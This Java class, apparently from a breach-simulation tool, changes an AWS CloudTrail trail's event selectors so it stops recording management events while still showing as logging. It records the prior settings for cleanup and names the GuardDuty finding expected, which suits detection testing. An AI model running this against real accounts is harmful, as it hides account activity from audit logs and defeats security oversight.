package io.firedrill.injector.technique.defenseevasion;

import io.firedrill.injector.aws.ApiCall;
import io.firedrill.injector.aws.AwsSession;
import io.firedrill.injector.cleanup.Change;
import io.firedrill.injector.cleanup.Ledger;
import io.firedrill.injector.cleanup.Trails;
import io.firedrill.injector.technique.IncidentType;
import io.firedrill.injector.technique.Parameters;
import io.firedrill.injector.technique.Technique;
import io.firedrill.injector.technique.TechniqueInfo;
import java.util.List;
import java.util.Map;
import java.util.Set;
import software.amazon.awssdk.services.cloudtrail.model.EventSelector;
import software.amazon.awssdk.services.cloudtrail.model.ReadWriteType;

/** Leaves a trail logging, but no longer recording management events: blind and quiet. */
public final class CloudTrailEventSelectors implements Technique<CloudTrailEventSelectors.Params> {

  /**
   * @param trail the trail's name or ARN
   */
  public record Params(String trail) {}

  private static final TechniqueInfo INFO =
      new TechniqueInfo(
          "aws.defense-evasion.cloudtrail-event-selectors",
          "Stop a trail recording management events",
          "Calls cloudtrail:PutEventSelectors with one selector that records read-only data"
              + " events and no management events. The trail still says it is logging.",
          List.of("T1562.008"),
          IncidentType.COMPLIANCE_VARIANCE,
          List.of("PutEventSelectors"),
          List.of("Stealth:IAMUser/CloudTrailLoggingDisabled"),
          List.of("cloudtrail:PutEventSelectors"));

  @Override
  public TechniqueInfo info() {
    return INFO;
  }

  @Override
  public Params parameters(Map<String, String> with) {
    Parameters.allowOnly(with, Set.of("trail"));
    return new Params(Parameters.required(with, "trail", "the name or ARN of the trail to blind"));
  }

  @Override
  public List<ApiCall> detonate(AwsSession session, Params p, Ledger ledger) {
    try {
      List<EventSelector> before =
          session.cloudTrail().getEventSelectors(r -> r.trailName(p.trail())).eventSelectors();
      ledger.willMake(
          Change.of(Change.TRAIL_SELECTORS, p.trail(), "selectors", Trails.selectorsJson(before)));
    } catch (RuntimeException unreadable) {
      // The actor cannot read the selectors (or the trail is not there): the put fails the same
      // way.
    }
    EventSelector blind =
        EventSelector.builder()
            .readWriteType(ReadWriteType.READ_ONLY)
            .includeManagementEvents(false)
            .build();
    return List.of(
        session.call(
            "cloudtrail",
            "PutEventSelectors",
            () ->
                session
                    .cloudTrail()
                    .putEventSelectors(r -> r.trailName(p.trail()).eventSelectors(blind))));
  }
}
